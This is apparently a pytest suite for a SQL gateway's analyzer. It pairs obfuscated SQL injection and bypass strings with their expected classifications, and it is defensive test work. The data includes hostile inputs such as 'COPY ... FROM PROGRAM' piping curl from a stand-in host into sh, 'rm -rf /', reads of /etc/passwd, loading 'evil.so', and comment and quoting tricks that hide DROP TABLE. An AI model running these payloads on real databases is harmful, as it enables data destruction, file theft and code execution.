"""The permanent bypass suite: texts that try to hide what SQL runs, next to their honest twins.

Each case is summarised as the statements' kinds in order, a nested one marked ">" (a DELETE
inside a CTE is ">delete"), or ERROR when the text does not parse (the gateway then refuses
it). A case that ever changes answer here is a policy bypass or a new false alarm.
"""

from __future__ import annotations

from typing import Any

import pytest

from extproc.interpret.sql import analyze

ERROR = "ERROR"


def kinds(text: str, dialect: str) -> str:
    result = analyze(text, dialect)
    if result["error"] is not None:
        assert result["statements"] == []
        return ERROR
    return " ".join((">" if s["nested"] else "") + s["kind"] for s in result["statements"])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # comments inside and between keywords
        ("DrOp/**/TABLE x", "drop"),
        ("DR/**/OP TABLE x", ERROR),
        ("DROP/* hi */TABLE/**/x", "drop"),
        ("DROP -- a comment\nTABLE x", "drop"),
        ("SELECT 1 -- ; DROP TABLE x", "select"),
        ("SELECT 1 --\n; DROP TABLE x", "select drop"),
        ("SELECT 1 /* a /* nested */ ; DROP TABLE x */", "select"),
        ("SELECT 1 /* a /* nested */ */; DROP TABLE x", "select drop"),
        ("SELECT 1 /* unterminated ; DROP TABLE x", ERROR),
        # stacked statements
        ("SELECT 1; DROP TABLE x", "select drop"),
        ("SELECT 1;DROP TABLE x;", "select drop"),
        ("SELECT 1;;; ;DELETE FROM x", "select delete"),
        ("SELECT 1", "select"),
        # string literals are strings, however they look
        ("SELECT '; DROP TABLE x; --'", "select"),
        ("SELECT 'it''s'; DROP TABLE x", "select drop"),
        ("SELECT E'\\'; DROP TABLE x; --'", "select"),
        # standard strings: \ is a letter; with standard_conforming_strings off, an escape
        ("SELECT '\\'; DROP TABLE x; --'", "select drop select"),
        ("SELECT $$; DROP TABLE x; $$", "select"),
        ("SELECT $x$ $$; DROP TABLE x; $$ $x$", "select"),
        ("SELECT $x$ ; $y$; DROP TABLE x", ERROR),  # the $x$ string never closes
        ('SELECT 1 AS "; DROP TABLE x; --"', "select"),
        ("SELECT U&'\\0044ROP TABLE x'", "select"),
        # data-modifying statements inside others
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "select >delete"),
        ("WITH d AS (SELECT * FROM t) SELECT * FROM d", "select"),
        ("WITH a AS (WITH b AS (DELETE FROM t RETURNING *) SELECT * FROM b) SELECT * FROM a",
         "select >delete"),
        ("INSERT INTO log SELECT * FROM (WITH d AS (UPDATE t SET a = 1 RETURNING *) "
         "SELECT * FROM d) s", "insert >update"),
        ("INSERT INTO log SELECT * FROM t", "insert"),
        ("SELECT * FROM t WHERE a IN (WITH d AS (DELETE FROM u RETURNING id) SELECT id FROM d)",
         "select >delete"),
        ("EXPLAIN ANALYZE DELETE FROM t", "explain >delete"),
        ("EXPLAIN SELECT * FROM t", "explain >select"),
        ("CREATE TABLE x AS SELECT * FROM t", "create >select"),
        ("SELECT * INTO x FROM t", "create >select"),
        ("PREPARE p AS DELETE FROM t", "prepare >delete"),
        ("CREATE RULE r AS ON SELECT TO t DO ALSO DELETE FROM u", "create >delete"),
        ("COPY (DELETE FROM t RETURNING *) TO STDOUT", "copy >delete"),
        ("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
         "create >delete"),
        ("CREATE SCHEMA s CREATE TABLE t (a int)", "create >create"),
        # code and programs
        ("COPY t TO PROGRAM 'rm -rf /'", "copy"),
        ("COPY t FROM PROGRAM 'curl evil.example | sh'", "copy"),
        ("DO $$ BEGIN DELETE FROM t; END $$", "do"),
        ("DO $body$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $body$", "do"),
        ("DO LANGUAGE plpgsql $x$ BEGIN NULL; END $x$", "do"),
        ("LOAD 'evil.so'", "load"),
        ("CALL p()", "call"),
        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "select"),
        # case, quoting, whitespace
        ("dElEtE fRoM t", "delete"),
        ('DELETE FROM "Users"', "delete"),
        ("DROP\tTABLE\nx", "drop"),
        ("DROP\u00a0TABLE x", "drop"),  # no-break space
        ("DROP\u2028TABLE x", "drop"),  # line separator
        ("DROP\u3000TABLE\u205fx", "drop"),  # ideographic / math spaces
        ("\ufeffDROP TABLE x", "drop"),  # byte-order mark
        ("DR\u200bOP TABLE x", "drop"),  # zero-width space
        ("SELECT 'DROP\u00a0TABLE x'", "select"),
        ("SELECT 1 -\u200b- 1 FROM (SELECT 1 AS \"\u200b\") s; DROP TABLE t\n", ERROR),
        # not SQL, or not only SQL
        ("hello world", ERROR),
        ("SELECT 1\x00; DROP TABLE x", ERROR),
        ("SELECT 1\\; DROP TABLE x", ERROR),
        ("\\! rm -rf /", ERROR),
        ("", ""),
        ("  -- nothing\n /* at all */ ", ""),
        # session, roles, transactions
        ("SET ROLE postgres; DROP TABLE x", "set drop"),
        ("BEGIN; DROP TABLE x; ROLLBACK", "transaction drop transaction"),
        ("ALTER SYSTEM SET archive_command = 'rm -rf /'", "alter"),
        ("CREATE EXTENSION dblink", "create"),
        ("GRANT ALL ON t TO PUBLIC", "grant"),
        ("TRUNCATE t", "truncate"),
    ],
)
def test_postgres(text: str, expected: str) -> None:
    assert kinds(text, "postgres") == expected


@pytest.mark.parametrize(
    ("dialect", "text", "expected"),
    [
        ("sqlite", "DrOp/**/TABLE x", "drop"),
        ("sqlite", "DR/**/OP TABLE x", ERROR),
        ("sqlite", "SELECT 1; DROP TABLE x", "select drop"),
        ("sqlite", "SELECT 1 -- ; DROP TABLE x", "select"),
        ("sqlite", "SELECT '; DROP TABLE x; --'", "select"),
        ("sqlite", "SELECT 1 /* ; DROP TABLE x */", "select"),
        ("sqlite", "WITH d AS (SELECT id FROM t) DELETE FROM u WHERE id IN (SELECT id FROM d)",
         "delete"),
        ("sqlite", "WITH d AS (SELECT id FROM t) SELECT * FROM d", "select"),
        ("sqlite", "ATTACH DATABASE '/tmp/evil.db' AS evil", "attach"),
        ("sqlite", "PRAGMA writable_schema = 1", "pragma"),
        ("sqlite", "SELECT load_extension('/tmp/evil.so')", "select"),
        ("sqlite", "BEGIN; DELETE FROM t; END", "transaction delete transaction"),
        ("sqlite", "dElEtE FrOm t", "delete"),
        ("sqlite", "DROP\u00a0TABLE x", "drop"),
        ("sqlite", "DR\u200bOP TABLE x", "drop"),
        ("sqlite", "SELECT * INTO x FROM t", "create >select"),  # read as what it would do
        # what sqlglot only reads as an opaque command is never reported as harmless
        ("sqlite", "EXPLAIN QUERY PLAN SELECT 1", "other"),
        ("sqlite", "REPLACE INTO t VALUES (1)", "other"),
        ("sqlite", "VACUUM; DROP TABLE x", "other drop"),
        ("sqlite", "CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM u; END",
         "other transaction"),
        # and what it reads as a bare expression is not a statement at all
        ("sqlite", "hello world", ERROR),
        ("sqlite", "REINDEX t", ERROR),
        ("sqlite", "SELECT 1\x00; DROP TABLE x", ERROR),
        ("mysql", "SELECT * FROM `Users`; DROP TABLE `x`", "select drop"),
        ("mysql", "SELECT 1 # ; DROP TABLE x", "select"),
        ("mysql", "SELECT 1 /*! ; DROP TABLE x */", "select drop"),  # MySQL runs /*! ... */
        ("mysql", "SELECT 1 /* ; DROP TABLE x */", "select"),
        ("mysql", "FLUSH PRIVILEGES", ERROR),
        ("mysql", "EXPLAIN DELETE FROM t", "explain >delete"),
        # SQL's prepared statements: the string a PREPARE takes is read as what it runs
        ("mysql", "PREPARE s FROM 'DROP TABLE x'", "prepare >drop"),
        ("mysql", "PrEpArE s FrOm 'SELECT 1; DELETE FROM t'", "prepare >select >delete"),
        ("mysql", "PREPARE s FROM 'SELECT \\'x\\'; DROP TABLE t; -- '",
         "prepare >select >drop prepare"),  # each lexing of the backslash: both read
        ("mysql", "PREPARE s FROM 'SELECT 1 /*!, (DELETE FROM t) */'", ERROR),
        ("mysql", "PREPARE s FROM 'SELECT 1 --\u00a0x'", ERROR),
        ("mysql", "EXECUTE IMMEDIATE 'DELETE FROM t'", "execute >delete"),
        ("mysql", "PREPARE s FROM @sql", "prepare"),  # dynamic: no text to read
        ("mysql", "PREPARE s FROM CONCAT('DROP ', 'TABLE x')", "prepare"),
        ("mysql", "EXECUTE s", "execute"),
        # what a statement prepared in SQL runs may be a SET of sql_mode, in which the
        # server lexes the rest of the text: it ends its text
        ("mysql", "EXECUTE s USING @a, 'x', 1; DROP TABLE t", ERROR),
        ("mysql", "SELECT 1; EXECUTE s USING @a, 'x', 1", "select execute"),
        ("mysql", "EXECUTE s USING (SELECT ssn FROM t)", "other"),
        ("mysql", "DROP PREPARE s", "discard"),
        # MySQL's lexer, as MariaDB runs a text (tests/mysql/test_attack_differential.py
        # proves them against the server). sqlglot read `{# ... #}` as a comment (Jinja's);
        # MariaDB reads `{` and a `#` comment to the end of the line, then the DROP.
        ("mysql", "SELECT 1, {# \n d '2020-01-01'}; DROP TABLE x; -- #} 2", ERROR),
        ("mysql", "SELECT 1 {# ; DROP TABLE x #}", ERROR),
        ("mysql", "SELECT 1 #{\n; DROP TABLE x", "select drop"),
        ("mysql", "SELECT 1--1; DROP TABLE x", "select drop"),  # `--` needs a blank after
        ("mysql", "SELECT 1-- 1; DROP TABLE x", "select"),
        ("mysql", "SELECT 1--\x01; DROP TABLE x", "select"),  # or a control character
        ("mysql", "SELECT 1 --\u00a0; DROP TABLE x", ERROR),
        ("mysql", "SELECT 1 /* /* */ ; DROP TABLE x; /* */", "select drop"),  # no nesting
        ("mysql", "SELECT 1 /*!50000 ; DROP TABLE x */", ERROR),
        ("mysql", "SELECT 1 /*M! ; DROP TABLE x */", "select drop"),
        ("mysql", "SELECT 1 /*M!100101 ; DROP TABLE x */", ERROR),
        ("mysql", "SELECT 1 /*+ ; DROP TABLE x */", "select"),  # a hint is a comment
        ("mysql", "SELECT 'a''; DROP TABLE x; -- '", "select"),
        ('mysql', 'SELECT "a""; DROP TABLE x; -- "', "select select"),  # a string, a name
        # NO_BACKSLASH_ESCAPES: the backslash ends nothing; ANSI_QUOTES: "..." is a name,
        # where a backslash escapes nothing either. Every sql_mode's reading is listed.
        ("mysql", "SELECT 'a\\'; DROP TABLE x; -- '", "select select drop"),
        ("mysql", "SELECT N'a\\'; DROP TABLE x; -- '", "select select drop"),
        ("mysql", "SELECT _utf8mb4'a\\'; DROP TABLE x; -- '", "select select drop"),
        ("mysql", "SELECT 'a\\'', \"b\\\"; DROP TABLE x; -- \"", "select select drop"),
        ("mysql", "SELECT `a;b`, `c``; DROP TABLE x; -- `", "select"),
        ("mysql", "SELECT `a\\`; DROP TABLE x; -- `", "select drop"),
        ("mysql", "SELECT X'4\\'; DROP TABLE x; -- '", ERROR),
        ("mysql", "SELECT X'41', 0x41, b'1', _utf8mb4'a', N'a', _binary'b'", "select"),
        # Dynamic and deferred SQL: a PREPARE's string read as what it runs (above); what no
        # reading sees into is "other", `dynamic` (sql.dynamic), or no statement.
        ("mysql", "SET @q = CONCAT('DR', 'OP TABLE x'); PREPARE s FROM @q; EXECUTE s",
         "set prepare execute"),
        ("mysql", "EXECUTE IMMEDIATE 'DROP TABLE x'", "execute >drop"),
        ("mysql", "DEALLOCATE PREPARE s", ERROR),
        ("mysql", "CALL p()", "other"),
        ("mysql", "DO (SELECT 1)", ERROR),
        ("mysql", "HANDLER customers OPEN", ERROR),
        ("mysql", "SELECT ssn FROM customers INTO OUTFILE '/tmp/x'", ERROR),
        ("mysql", "SELECT ssn INTO DUMPFILE '/tmp/x' FROM customers", ERROR),
        ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", ERROR),
        ("mysql", "LOAD XML INFILE '/x' INTO TABLE t", "other"),
        ("mysql", "INSTALL SONAME 'ha_connect'", ERROR),
        ("mysql", "SHUTDOWN", ERROR),
        ("mysql", "KILL QUERY 5", "kill"),
        ("mysql", "BINLOG 'AAAA'", ERROR),
        ("mysql", "SET PASSWORD FOR root@localhost = 'x'", "other"),
        ("mysql", "GRANT ALL ON *.* TO x", "other"),
        ("mysql", "CREATE USER x", "other"),
        ("mysql", "ALTER USER root IDENTIFIED BY 'x'", "other"),
        ("mysql", "RENAME TABLE a TO b", "other"),
        ("mysql", "REPLACE INTO t SELECT * FROM u", "other"),
        ("mysql", "CREATE PROCEDURE p() BEGIN DROP TABLE x; END", ERROR),
        ("mysql", "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW DELETE FROM u", "other"),
        ("mysql", "CREATE EVENT e ON SCHEDULE EVERY 1 SECOND DO DROP TABLE x", "other"),
        ("mysql", "BEGIN NOT ATOMIC DROP TABLE x; END", ERROR),
        ("mysql", "SET STATEMENT sql_mode = '' FOR DROP TABLE x", "other"),
        ("mysql", "SELECT ssn INTO @v FROM customers", "select"),  # no table: variables
        ("tsql", "SELECT * INTO x FROM t", "create >select"),
        ("tsql", "DROP TABLE [Users]", "drop"),
        ("duckdb", "ALTER TABLE t DROP PRIMARY KEY", "other"),  # sqlglot: action unread
        ("duckdb", "EXPLAIN ANALYZE DELETE FROM t", "other"),
        ("snowflake", "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", "merge"),
    ],
)
def test_other_dialects(dialect: str, text: str, expected: str) -> None:
    assert kinds(text, dialect) == expected


@pytest.mark.parametrize(("text", "effect"), [
    ("SET PASSWORD = PASSWORD('x')", "privilege"),  # the gateway's own account's
    ("SET NAMES gbk", "unreadable"),
    ("SET CHARSET big5", "unreadable"),
    ("SET @@session.character_set_client = sjis", "unreadable"),
    ("SET character_set_client = @cs", "unreadable"),
    ("SET NAMES DEFAULT", "unreadable"),
    ("SET GLOBAL init_connect = 'SELECT 1'", "unreadable"),
    # NAMES sets the results character set too, which the front reads as UTF-8 only.
    ("SET NAMES latin1", "unreadable"),
    ("SELECT ssn INTO @v FROM customers", "session"),
    ("CREATE TABLE f (a int) ENGINE=FEDERATED CONNECTION='mysql://u@h/db/t'", "server"),
    ("CREATE TABLE f (a text) ENGINE=CONNECT TABLE_TYPE=CSV FILE_NAME='/etc/passwd'", "server"),
    ("ALTER TABLE t ENGINE=SPIDER", "server"),
    ("SHOW FULL PROCESSLIST", "server"),
    ("SELECT info FROM information_schema.PROCESSLIST", "server"),
    ("SELECT LOAD_FILE('/etc/passwd')", "server"),
])
def test_mysql_effects(text: str, effect: str) -> None:
    result = analyze(text, "mysql")
    assert result["error"] is None
    assert any(effect in s["effects"] for s in result["statements"])


@pytest.mark.parametrize("text", [
    "SET NAMES utf8mb4", "SET NAMES 'utf8mb4' COLLATE utf8mb4_bin",
    "SET character_set_client = utf8mb4", "SET character_set_client = latin1",
])
def test_mysql_client_charsets_tollgate_reads_as_the_server(text: str) -> None:
    (statement,) = analyze(text, "mysql")["statements"]
    assert "unreadable" not in statement["effects"]


def first(text: str, dialect: str = "postgres", nested: bool = False) -> dict[str, Any]:
    result = analyze(text, dialect)
    assert result["error"] is None
    return next(s for s in result["statements"] if s["nested"] is nested)


@pytest.mark.parametrize(
    ("text", "key", "expected"),
    [
        ("COPY t TO PROGRAM 'rm -rf /'", "program", "rm -rf /"),
        ("COPY t FROM PROGRAM 'curl x | sh'", "program", "curl x | sh"),
        ("COPY t TO '/tmp/out.csv'", "program", None),
        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "functions",
         ["pg_terminate_backend"]),
        ("SELECT * FROM (SELECT lo_export(1, '/tmp/x')) s", "functions", ["lo_export"]),
        ("SELECT 1 WHERE EXISTS (SELECT pg_catalog.pg_read_file('/etc/passwd'))", "functions",
         ["pg_read_file"]),
        ("SELECT * FROM dblink_exec('host=x', 'DROP TABLE t')", "functions", ["dblink_exec"]),
        ("SELECT 'pg_read_file(1)'", "functions", []),
        ('DELETE FROM "Users"', "tables", ["Users"]),
        ("DELETE FROM Users", "tables", ["users"]),
        ("DELETE FROM Public.Users", "tables", ["public.users"]),
        ("WITH users AS (SELECT 1) DELETE FROM users", "tables", ["users"]),
        ("SELECT * FROM (WITH users AS (SELECT 1) SELECT * FROM users) a, users", "tables",
         ["users"]),
        ("WITH users AS (SELECT 1) SELECT * FROM users", "tables", []),
        ("DELETE FROM t", "has_where", False),
        ("DELETE FROM t WHERE true", "has_where", True),
        ("DELETE FROM t USING u", "has_where", False),
        ("UPDATE t SET a = 1 WHERE CURRENT OF c", "has_where", True),
        ("UPDATE t SET a = (SELECT 1 WHERE true)", "has_where", False),
        ("TRUNCATE t", "has_where", None),
    ],
)
def test_what_runs(text: str, key: str, expected: Any) -> None:
    assert first(text)[key] == expected


def test_cte_delete_is_seen_as_a_delete() -> None:
    nested = first("WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d", nested=True)
    assert (nested["kind"], nested["tables"], nested["has_where"]) == ("delete", ["users"], False)
